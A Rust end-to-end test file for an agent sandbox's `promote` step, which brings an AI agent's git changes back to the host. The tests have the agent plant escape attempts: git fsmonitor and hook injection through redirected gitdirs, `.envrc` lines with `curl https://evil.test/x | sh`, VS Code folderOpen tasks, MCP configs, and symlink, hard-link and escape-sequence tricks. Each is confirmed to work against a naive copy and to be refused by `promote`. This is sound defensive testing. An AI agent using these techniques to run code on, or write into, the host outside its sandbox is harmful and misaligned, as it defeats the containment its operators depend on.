@@ -1,0 +1,780 @@
+//! Promote suite: an agent works in a real git checkout (files owned by uid 1000) through
+//! podman and ctr, and its changes come back to the host only through `agent-sandbox
+//! promote`. Each attack is first shown to work against a naive promotion (`cp -a` of the
+//! overlay's upper dir, or Python's `shutil.copytree`): the agent's command runs on a host
+//! `git status`, a file lands outside the target, a linked script changes, a spoofed
+//! manifest deletes a file. Then `promote` refuses it (or, for what a naive copy left in
+//! the target, applies without writing through it) and the host stays as it was.
+//!
+//! The image has no git: the host's Debian git (`/usr/bin/git`, whose libraries the tools
+//! image carries) is bound read-only into the sandbox. The checkout is made writable for
+//! the sandbox's unprivileged ids with `chmod -R a+rwX` (mode bits only; git tracks none of
+//! them but the execute bit).
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::MetadataExt as _;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::atomic::{AtomicU32, Ordering};
+
+use agent_sandbox_e2e::ctr::{self, Container, Shim};
+use agent_sandbox_e2e::harness::{self, DEFAULT_TIMEOUT, Output, TOOLS_IMAGE, User};
+use agent_sandbox_e2e::podman::{ContainerGuard, Podman, Runtime, unique_name};
+use anyhow::{Context, bail, ensure};
+
+/// The checkout's owner on the host.
+const OWNER: u32 = 1000;
+/// Debian's git, bound into the sandbox and run on the host.
+const GIT: &str = "/usr/bin/git";
+/// Rootful podman's runtime state root (the runtime's default as root).
+const PODMAN_ROOT: &str = "/run/agent-sandbox";
+
+fn run_ok(cmd: &mut Command) -> anyhow::Result<Output> {
+    harness::run_ok(cmd, DEFAULT_TIMEOUT)
+}
+
+fn sh(script: &str) -> anyhow::Result<Output> {
+    run_ok(Command::new("sh").args(["-ec", script]))
+}
+
+/// A host directory holding the checkout `ws` and copies of it (world-traversable, so the
+/// checkout's owner can reach them).
+struct Host {
+    dir: tempfile::TempDir,
+    ws: PathBuf,
+}
+
+impl Host {
+    /// A git checkout with one commit, owned by [`OWNER`].
+    fn checkout() -> anyhow::Result<Host> {
+        harness::require_file(GIT)?;
+        harness::require_tool("setpriv")?;
+        harness::require_tool("python3")?;
+        let dir = tempfile::Builder::new().prefix("pr-promote-").tempdir()?;
+        let ws = dir.path().join("ws");
+        for (path, text) in [
+            ("README.md", "# calc\n"),
+            ("src/calc.py", "def add(a, b):\n    return a - b\n"),
+            ("docs/notes", "notes\n"),
+            ("tools/run.sh", "#!/bin/sh\necho safe\n"),
+            ("pkg/mod.py", "x = 1\n"),
+        ] {
+            let p = ws.join(path);
+            fs::create_dir_all(p.parent().context("no parent")?)?;
+            fs::write(&p, text)?;
+        }
+        let d = dir.path().display();
+        sh(&format!(
+            "chmod 0755 {d}; mkdir {d}/home {d}/outside; chmod 0755 {d}/home {d}/outside
+             chown {OWNER}:{OWNER} {d}/home {d}/outside
+             cd {d}/ws; chmod 0755 tools/run.sh
+             {GIT} init -q -b main .
+             {GIT} add -A
+             {GIT} -c user.name=dev -c user.email=dev@host commit -qm initial
+             chown -R {OWNER}:{OWNER} .
+             chmod -R a+rwX ."
+        ))?;
+        Ok(Host { dir, ws })
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.dir.path().join(name)
+    }
+
+    /// `cp -a` of `from` (a path under the host dir) to a new sibling `name`.
+    fn copy(&self, from: &Path, name: &str) -> anyhow::Result<PathBuf> {
+        let to = self.path(name);
+        run_ok(Command::new("cp").arg("-a").arg(from).arg(&to))?;
+        Ok(to)
+    }
+
+    /// `git ARGS` in `repo` as the checkout's owner, as the developer would run it.
+    fn git(&self, repo: &Path, args: &[&str]) -> anyhow::Result<Output> {
+        harness::run(
+            Command::new("setpriv")
+                .args([
+                    "--reuid",
+                    &OWNER.to_string(),
+                    "--regid",
+                    &OWNER.to_string(),
+                    "--clear-groups",
+                    "env",
+                ])
+                .arg(format!("HOME={}", self.path("home").display()))
+                .arg(GIT)
+                .arg("-C")
+                .arg(repo)
+                .args(args),
+            DEFAULT_TIMEOUT,
+        )
+    }
+
+    /// A marker path the agent's planted command would create, unique to this test.
+    fn marker(&self, name: &str) -> PathBuf {
+        self.path("outside").join(name)
+    }
+}
+
+/// Every entry below `root`: file content, link target or `dir`, with mode and owner.
+fn snapshot(root: &Path) -> anyhow::Result<BTreeMap<PathBuf, String>> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in fs::read_dir(&d).with_context(|| format!("cannot list {}", d.display()))? {
+            let p = e?.path();
+            let m = fs::symlink_metadata(&p)?;
+            let what = if m.file_type().is_symlink() {
+                format!("-> {}", fs::read_link(&p)?.display())
+            } else if m.is_dir() {
+                stack.push(p.clone());
+                "dir".to_owned()
+            } else if m.is_file() {
+                format!("{:?}", fs::read(&p)?)
+            } else {
+                "special".to_owned()
+            };
+            let rel = p.strip_prefix(root)?.to_path_buf();
+            out.insert(
+                rel,
+                format!("{what} {:o} {}:{}", m.mode(), m.uid(), m.gid()),
+            );
+        }
+    }
+    Ok(out)
+}
+
+/// The entry point a sandbox runs through.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Via {
+    Podman,
+    Ctr,
+}
+
+/// A sleeping sandbox over a workspace, into which the agent's scripts are exec'd.
+struct Agent {
+    via: Via,
+    id: String,
+    root: PathBuf,
+    name: String,
+    _podman: Option<ContainerGuard>,
+    _ctr: Option<Container>,
+}
+
+fn sandbox() -> Podman {
+    Podman::new(User::Root, Runtime::AgentSandbox)
+}
+
+impl Agent {
+    fn start(via: Via, workspace: &Path) -> anyhow::Result<Agent> {
+        harness::require_file(harness::runtime_bin())?;
+        let ws = workspace.display().to_string();
+        match via {
+            Via::Podman => {
+                harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+                let name = unique_name("pr-promote");
+                let guard = ContainerGuard {
+                    podman: sandbox(),
+                    name: name.clone(),
+                };
+                let out = sandbox().run_ok(&[
+                    "run",
+                    "-d",
+                    "--name",
+                    &name,
+                    "-v",
+                    &format!("{ws}:/workspace"),
+                    "-v",
+                    &format!("{GIT}:{GIT}:ro"),
+                    TOOLS_IMAGE,
+                    "sleep",
+                    "600",
+                ])?;
+                let id = out
+                    .stdout
+                    .lines()
+                    .last()
+                    .unwrap_or_default()
+                    .trim()
+                    .to_owned();
+                ensure!(id.len() == 64, "no container id\n{out}");
+                Ok(Agent {
+                    via,
+                    id,
+                    root: PathBuf::from(PODMAN_ROOT),
+                    name,
+                    _podman: Some(guard),
+                    _ctr: None,
+                })
+            }
+            Via::Ctr => {
+                ctr::require_containerd()?;
+                let id = format!("pr-{}", ctr::unique_id("promote"));
+                let c = Container::start_detached(
+                    Shim::AgentSandbox,
+                    &[
+                        "--mount",
+                        &format!("type=bind,src={ws},dst=/workspace,options=rbind:rw"),
+                        "--mount",
+                        &format!("type=bind,src={GIT},dst={GIT},options=rbind:ro"),
+                    ],
+                    TOOLS_IMAGE,
+                    &id,
+                    &["sleep", "600"],
+                )?;
+                c.wait_status("RUNNING", std::time::Duration::from_secs(30))?;
+                Ok(Agent {
+                    via,
+                    id: id.clone(),
+                    root: PathBuf::from(format!("{}/{}", ctr::RUNTIME_ROOT, ctr::NAMESPACE)),
+                    name: id,
+                    _podman: None,
+                    _ctr: Some(c),
+                })
+            }
+        }
+    }
+
+    /// Runs the agent's `script` in /workspace; it must succeed.
+    fn exec(&self, script: &str) -> anyhow::Result<Output> {
+        static N: AtomicU32 = AtomicU32::new(0);
+        let script = format!("set -e; cd /workspace; {script}");
+        let out = match self.via {
+            Via::Podman => sandbox().run(&["exec", &self.name, "sh", "-c", &script])?,
+            Via::Ctr => {
+                let exec_id = format!("agent{}", N.fetch_add(1, Ordering::Relaxed));
+                let c = self._ctr.as_ref().context("no ctr container")?;
+                c.task_cmd(&["exec", "--exec-id", &exec_id], &["sh", "-c", &script])?
+            }
+        };
+        ensure!(out.success(), "the agent's script failed\n{out}");
+        Ok(out)
+    }
+
+    /// `agent-sandbox --root ROOT ARGS... ID`.
+    fn runtime(&self, args: &[&str]) -> anyhow::Result<Output> {
+        harness::run(
+            Command::new(harness::runtime_bin())
+                .arg("--root")
+                .arg(&self.root)
+                .args(args)
+                .arg(&self.id),
+            DEFAULT_TIMEOUT,
+        )
+    }
+
+    /// `promote --to TARGET [--dry-run]`.
+    fn promote(&self, target: &Path, dry_run: bool) -> anyhow::Result<Output> {
+        let to = target.display().to_string();
+        let mut args = vec!["promote", "--to", to.as_str()];
+        if dry_run {
+            args.push("--dry-run");
+        }
+        self.runtime(&args)
+    }
+
+    /// The overlay's upper dir: what a naive promotion copies.
+    fn upper(&self) -> anyhow::Result<PathBuf> {
+        let path = self
+            .root
+            .join("sandbox")
+            .join(&self.id)
+            .join("workspace.json");
+        let ws: serde_json::Value = serde_json::from_slice(&fs::read(&path)?)?;
+        Ok(PathBuf::from(
+            ws["upper"]
+                .as_str()
+                .context("workspace.json without upper")?,
+        ))
+    }
+
+    /// Naive promotion: `cp -a UPPER/. TARGET/`, then (with `chown`) the files handed to
+    /// their owner, as a developer would before working on them.
+    fn naive_cp(&self, target: &Path, chown: bool) -> anyhow::Result<()> {
+        let upper = self.upper()?;
+        run_ok(
+            Command::new("cp")
+                .arg("-a")
+                .arg(format!("{}/.", upper.display()))
+                .arg(target),
+        )?;
+        if !chown {
+            return Ok(());
+        }
+        run_ok(
+            Command::new("chown")
+                .args(["-R", "--no-dereference", &format!("{OWNER}:{OWNER}")])
+                .arg(target),
+        )?;
+        Ok(())
+    }
+
+    /// Naive promotion: `shutil.copytree(UPPER, TARGET, symlinks=True, dirs_exist_ok=True)`.
+    fn naive_copytree(&self, target: &Path) -> anyhow::Result<Output> {
+        let upper = self.upper()?;
+        harness::run(
+            Command::new("python3")
+                .arg("-c")
+                .arg("import shutil, sys; shutil.copytree(sys.argv[1], sys.argv[2], symlinks=True, dirs_exist_ok=True)")
+                .arg(&upper)
+                .arg(target),
+            DEFAULT_TIMEOUT,
+        )
+    }
+}
+
+/// Requires `promote` to refuse (exit 1, nothing applied) and to name each of `paths`.
+fn refused(out: &Output, paths: &[&str]) -> anyhow::Result<()> {
+    ensure!(
+        out.code == Some(1) && out.stderr.contains("nothing was applied"),
+        "promote did not refuse\n{out}"
+    );
+    for p in paths {
+        ensure!(
+            out.stdout.contains(&format!("refused /{p}: ")),
+            "promote did not refuse /{p}\n{out}"
+        );
+    }
+    ensure!(
+        !out.stdout.contains('\x1b') && !out.stderr.contains('\x1b'),
+        "raw ESC in promote's output\n{out}"
+    );
+    Ok(())
+}
+
+fn promotes_edits_creates_deletes_and_a_commit(via: Via) -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(via, &host.ws)?;
+    agent.exec(&format!(
+        "printf 'def add(a, b):\\n    return a + b\\n' > src/calc.py
+         mkdir -p src/new && echo 'y = 2' > src/new/mod.py
+         rm docs/notes
+         G='{GIT} -c safe.directory=* -c user.name=agent -c user.email=agent@sandbox'
+         $G add -A && $G commit -qm 'agent: fix add'
+         echo draft > scratch.txt"
+    ))?;
+    let diff = agent.runtime(&["diff"])?;
+    for line in [
+        "M /src/calc.py (file)",
+        "A /src/new/mod.py (file)",
+        "D /docs/notes (file)",
+    ] {
+        ensure!(diff.stdout.contains(line), "diff lacks {line:?}\n{diff}");
+    }
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let dry = agent.promote(&target, true)?;
+    ensure!(
+        dry.success() && dry.stdout.contains("dry run: nothing was changed"),
+        "dry run failed\n{dry}"
+    );
+    for line in [
+        "/src/calc.py (file 0644",
+        "/.git/refs/heads/main",
+        "delete  /docs/notes",
+    ] {
+        ensure!(dry.stdout.contains(line), "plan lacks {line:?}\n{dry}");
+    }
+    ensure!(
+        snapshot(&target)? == before,
+        "the dry run changed the target"
+    );
+
+    let digest = dry
+        .stdout
+        .split("change set ")
+        .nth(1)
+        .and_then(|s| s.split(')').next())
+        .context("no digest in the plan")?
+        .to_owned();
+    // A change set other than the reviewed one is not applied.
+    let stale = format!("sha256:{}", "0".repeat(64));
+    let mismatch = agent.runtime(&[
+        "promote",
+        "--to",
+        &target.display().to_string(),
+        "--digest",
+        &stale,
+    ])?;
+    ensure!(
+        mismatch.code == Some(1) && mismatch.stderr.contains("not the reviewed"),
+        "promote applied an unreviewed change set\n{mismatch}"
+    );
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+
+    let out = agent.runtime(&[
+        "promote",
+        "--to",
+        &target.display().to_string(),
+        "--digest",
+        &digest,
+    ])?;
+    ensure!(out.success(), "promote failed\n{out}");
+    let log = host.git(&target, &["log", "--format=%s"])?;
+    ensure!(
+        log.success() && log.stdout.starts_with("agent: fix add\ninitial"),
+        "the agent's commit is not in the host checkout\n{log}"
+    );
+    let fsck = host.git(&target, &["fsck", "--strict"])?;
+    ensure!(fsck.success(), "git fsck failed\n{fsck}");
+    let status = host.git(&target, &["status", "--porcelain"])?;
+    ensure!(
+        status.success() && status.stdout == "?? scratch.txt\n",
+        "unexpected host status\n{status}"
+    );
+    ensure!(fs::read_to_string(target.join("src/calc.py"))?.contains("a + b"));
+    ensure!(!target.join("docs/notes").exists());
+    for p in [
+        "src/new",
+        "src/new/mod.py",
+        "scratch.txt",
+        ".git/refs/heads/main",
+    ] {
+        let m = fs::symlink_metadata(target.join(p))?;
+        ensure!(
+            (m.uid(), m.gid()) == (OWNER, OWNER) && m.mode() & 0o7022 == 0,
+            "{p}: owner {}:{} mode {:o}",
+            m.uid(),
+            m.gid(),
+            m.mode()
+        );
+    }
+    // The audit log holds a promoted record with the plan's digest, and still verifies.
+    let json = agent.runtime(&["audit", "--json"])?;
+    let promoted: Vec<serde_json::Value> = json
+        .stdout
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter(|r| r["kind"] == "promoted")
+        .collect();
+    ensure!(
+        promoted.len() == 1
+            && promoted[0]["data"]["digest"] == digest.as_str()
+            && promoted[0]["data"]["complete"] == true
+            && promoted[0]["data"]["target"] == target.display().to_string().as_str(),
+        "no promoted record with digest {digest}\n{json}"
+    );
+    let verify = agent.runtime(&["audit", "verify"])?;
+    ensure!(verify.success(), "audit verify failed\n{verify}");
+    // The host checkout the workspace came from is untouched.
+    let ws_log = host.git(&host.ws, &["log", "--format=%s"])?;
+    ensure!(ws_log.stdout == "initial\n", "{ws_log}");
+    Ok(())
+}
+
+#[test]
+fn podman_promote_brings_edits_creates_deletes_and_the_agents_commit_to_the_host_checkout()
+-> anyhow::Result<()> {
+    promotes_edits_creates_deletes_and_a_commit(Via::Podman)
+}
+
+#[test]
+fn ctr_promote_brings_edits_creates_deletes_and_the_agents_commit_to_the_host_checkout()
+-> anyhow::Result<()> {
+    promotes_edits_creates_deletes_and_a_commit(Via::Ctr)
+}
+
+/// `.git/commondir` pointing at a directory of the agent's whose config sets
+/// `core.fsmonitor`, and a `pkg/.git` gitdir file pointing at the same place: after a naive
+/// copy the developer's `git status` runs the agent's command.
+fn git_indirection(via: Via) -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(via, &host.ws)?;
+    let marker = host.marker("fsmonitor-ran");
+    agent.exec(&format!(
+        "mkdir .cache && cp -R .git/. .cache/
+         printf '[core]\\n\\tfsmonitor = \"touch {m}; false\"\\n' >> .cache/config
+         echo ../.cache > .git/commondir
+         echo 'gitdir: ../.cache' > pkg/.git",
+        m = marker.display()
+    ))?;
+
+    let naive = host.copy(&host.ws, "naive")?;
+    agent.naive_cp(&naive, true)?;
+    host.git(&naive, &["status", "--short"])?;
+    ensure!(
+        marker.exists(),
+        "naive: host git status did not run the planted fsmonitor (commondir)"
+    );
+    fs::remove_file(&marker)?;
+    host.git(&naive.join("pkg"), &["status", "--short"])?;
+    ensure!(
+        marker.exists(),
+        "naive: host git status did not run the planted fsmonitor (gitdir file)"
+    );
+    fs::remove_file(&marker)?;
+
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let out = agent.promote(&target, false)?;
+    refused(&out, &[".git/commondir", "pkg/.git", ".cache"])?;
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+    host.git(&target, &["status", "--short"])?;
+    host.git(&target.join("pkg"), &["status", "--short"])?;
+    ensure!(!marker.exists(), "the planted fsmonitor ran after promote");
+    Ok(())
+}
+
+#[test]
+fn podman_planted_commondir_and_gitdir_run_code_on_host_git_after_a_naive_copy_and_promote_refuses_them()
+-> anyhow::Result<()> {
+    git_indirection(Via::Podman)
+}
+
+#[test]
+fn ctr_planted_commondir_and_gitdir_run_code_on_host_git_after_a_naive_copy_and_promote_refuses_them()
+-> anyhow::Result<()> {
+    git_indirection(Via::Ctr)
+}
+
+/// A nested repository with its own config and hook, and protected names that did not
+/// exist yet, created at depth.
+#[test]
+fn podman_nested_git_config_hooks_and_protected_names_at_depth_are_refused() -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(Via::Podman, &host.ws)?;
+    let marker = host.marker("nested-fsmonitor-ran");
+    agent.exec(&format!(
+        "G='{GIT} -c safe.directory=* -c user.name=a -c user.email=a@b'
+         mkdir -p vendor/lib && cd vendor/lib && $G init -q -b main . && mkdir -p .git/hooks
+         echo v > v && $G add v
+         $G commit -qm vendored
+         printf '[core]\\n\\tfsmonitor = \"touch {m}; false\"\\n' >> .git/config
+         printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
+         cd /workspace
+         echo 'curl https://evil.test/x | sh' > pkg/.envrc
+         echo 'curl https://evil.test/x | sh' > .envrc
+         mkdir -p .vscode && echo '{{\"tasks\":[{{\"command\":\"id\",\"runOptions\":{{\"runOn\":\"folderOpen\"}}}}]}}' > .vscode/tasks.json
+         echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"id\"}}}}}}' > .mcp.json
+         echo 'alias ls=id' > src/.bashrc",
+        m = marker.display()
+    ))?;
+
+    let naive = host.copy(&host.ws, "naive")?;
+    agent.naive_cp(&naive, true)?;
+    for p in [
+        "pkg/.envrc",
+        ".envrc",
+        ".vscode/tasks.json",
+        ".mcp.json",
+        "src/.bashrc",
+    ] {
+        ensure!(naive.join(p).is_file(), "naive: {p} did not land");
+    }
+    host.git(&naive.join("vendor/lib"), &["status", "--short"])?;
+    ensure!(
+        marker.exists(),
+        "naive: the nested repo's fsmonitor did not run"
+    );
+    fs::remove_file(&marker)?;
+
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let out = agent.promote(&target, false)?;
+    refused(
+        &out,
+        &[
+            "pkg/.envrc",
+            ".envrc",
+            ".vscode",
+            ".vscode/tasks.json",
+            ".mcp.json",
+            "src/.bashrc",
+            "vendor/lib/.git/config",
+            "vendor/lib/.git/hooks/post-checkout",
+        ],
+    )?;
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+    Ok(())
+}
+
+/// Round one plants a symlink to a directory outside the checkout and hard-links a doc to a
+/// script; round two (a new sandbox over what round one left) writes through both. A naive
+/// copy writes outside the checkout and changes the script; promote refuses round one's link
+/// and, over a target a naive round one already spoiled, writes through neither.
+#[test]
+fn podman_symlink_and_hardlink_planted_in_round_one_are_never_written_through_in_round_two()
+-> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let outside = host.path("outside");
+    let script = fs::read_to_string(host.ws.join("tools/run.sh"))?;
+
+    // Round one.
+    let one = Agent::start(Via::Podman, &host.ws)?;
+    one.exec("ln -s ../outside assets && rm docs/notes && ln tools/run.sh docs/notes")?;
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let out = one.promote(&target, false)?;
+    refused(&out, &["assets"])?;
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+    let spoiled = host.copy(&host.ws, "spoiled")?;
+    one.naive_cp(&spoiled, true)?;
+    ensure!(
+        fs::symlink_metadata(spoiled.join("assets"))?
+            .file_type()
+            .is_symlink()
+    );
+    ensure!(
+        fs::metadata(spoiled.join("docs/notes"))?.ino()
+            == fs::metadata(spoiled.join("tools/run.sh"))?.ino(),
+        "naive round one did not keep the hard link"
+    );
+    drop(one);
+
+    // Round two, over what the naive round one left.
+    let ws2 = host.copy(&spoiled, "ws2")?;
+    let two = Agent::start(Via::Podman, &ws2)?;
+    two.exec("rm assets && mkdir assets && echo agent > assets/pwn.txt && echo 'curl evil | sh' > docs/notes")?;
+
+    let naive = host.copy(&spoiled, "naive")?;
+    // copytree may also complain about copying overlayfs' xattrs; what it wrote counts.
+    let copied = two.naive_copytree(&naive)?;
+    ensure!(
+        outside.join("pwn.txt").exists(),
+        "naive: copytree did not write through the planted symlink\n{copied}"
+    );
+    ensure!(
+        fs::read_to_string(naive.join("tools/run.sh"))?.contains("curl evil"),
+        "naive: copytree did not write through the planted hard link"
+    );
+    fs::remove_file(outside.join("pwn.txt"))?;
+
+    let target2 = host.copy(&spoiled, "target2")?;
+    let out = two.promote(&target2, false)?;
+    ensure!(out.success(), "promote failed\n{out}");
+    ensure!(
+        fs::read_dir(&outside)?.next().is_none(),
+        "promote wrote outside the target"
+    );
+    ensure!(
+        fs::read_to_string(target2.join("tools/run.sh"))? == script,
+        "promote wrote through the hard link"
+    );
+    ensure!(fs::symlink_metadata(target2.join("assets"))?.is_dir());
+    ensure!(fs::read_to_string(target2.join("assets/pwn.txt"))? == "agent\n");
+    ensure!(fs::read_to_string(target2.join("docs/notes"))? == "curl evil | sh\n");
+    Ok(())
+}
+
+/// A fifo, a socket, a setuid file, a name that erases the line before it and a deletion
+/// manifest of the agent's own. A naive copy carries them all (and a manifest-driven flow
+/// deletes the file the manifest names); promote refuses them, and every human view
+/// escapes the name while JSON keeps it exact.
+#[test]
+fn ctr_special_files_control_characters_and_a_spoofed_manifest_are_refused() -> anyhow::Result<()> {
+    let host = Host::checkout()?;
+    let agent = Agent::start(Via::Ctr, &host.ws)?;
+    agent.exec(
+        "mkfifo pipe
+         python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'
+         cp tools/run.sh tool && chmod 4755 tool
+         printf 'x' > \"$(printf 'ok.txt\\033[1A\\033[2K')\"
+         printf 'README.md\\0' > .agent-sandbox-deleted",
+    )?;
+    let hidden = "ok.txt\x1b[1A\x1b[2K";
+
+    // Human views escape the name; a plain listing of the upper dir does not.
+    let upper = agent.upper()?;
+    let ls = run_ok(Command::new("ls").arg("-1").arg(&upper))?;
+    ensure!(
+        ls.stdout.contains(hidden),
+        "the raw name is not in a plain listing\n{ls}"
+    );
+    let diff = agent.runtime(&["diff"])?;
+    ensure!(
+        diff.stdout.contains("A /ok.txt\\x1b[1A\\x1b[2K (file)") && !diff.stdout.contains('\x1b'),
+        "diff does not escape the name\n{diff}"
+    );
+
+    let naive = host.copy(&host.ws, "naive")?;
+    agent.naive_cp(&naive, false)?;
+    ensure!(
+        fs::metadata(naive.join("tool"))?.mode() & 0o4000 != 0,
+        "naive: setuid lost"
+    );
+    ensure!(
+        naive.join(hidden).exists(),
+        "naive: the hidden name did not land"
+    );
+    // A review flow that trusts the manifest found in the copy deletes what the agent named.
+    sh(&format!(
+        "cd {}; xargs -0 rm -f < .agent-sandbox-deleted",
+        naive.display()
+    ))?;
+    ensure!(
+        !naive.join("README.md").exists(),
+        "naive: the spoofed manifest deleted nothing"
+    );
+
+    let target = host.copy(&host.ws, "target")?;
+    let before = snapshot(&target)?;
+    let out = agent.promote(&target, false)?;
+    refused(
+        &out,
+        &[
+            "pipe",
+            "sock",
+            "tool",
+            "ok.txt\\x1b[1A\\x1b[2K",
+            ".agent-sandbox-deleted",
+        ],
+    )?;
+    ensure!(
+        snapshot(&target)? == before,
+        "a refused promotion changed the target"
+    );
+    ensure!(target.join("README.md").exists());
+
+    // After delete: the files_changed record keeps the exact name in JSON; the timeline
+    // escapes it.
+    let root = format!("{}/{}", ctr::RUNTIME_ROOT, ctr::NAMESPACE);
+    let id = agent.id.clone();
+    drop(agent);
+    let audit = |args: &[&str]| {
+        harness::run(
+            Command::new(harness::runtime_bin())
+                .args(["--root", &root, "audit"])
+                .args(args)
+                .arg(&id),
+            DEFAULT_TIMEOUT,
+        )
+    };
+    let human = audit(&[])?;
+    ensure!(
+        human.success()
+            && human.stdout.contains("A /ok.txt\\x1b[1A\\x1b[2K")
+            && !human.stdout.contains('\x1b'),
+        "the timeline does not escape the name\n{human}"
+    );
+    let json = audit(&["--json"])?;
+    let exact = json
+        .stdout
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .any(|r| {
+            r["kind"] == "files_changed"
+                && r["data"]["paths"]
+                    .as_array()
+                    .is_some_and(|p| p.iter().any(|p| p == &format!("A /{hidden}")))
+        });
+    ensure!(
+        exact,
+        "the JSON record does not keep the exact name\n{json}"
+    );
+    if !audit(&["verify"])?.success() {
+        bail!("audit verify failed");
+    }
+    Ok(())
+}
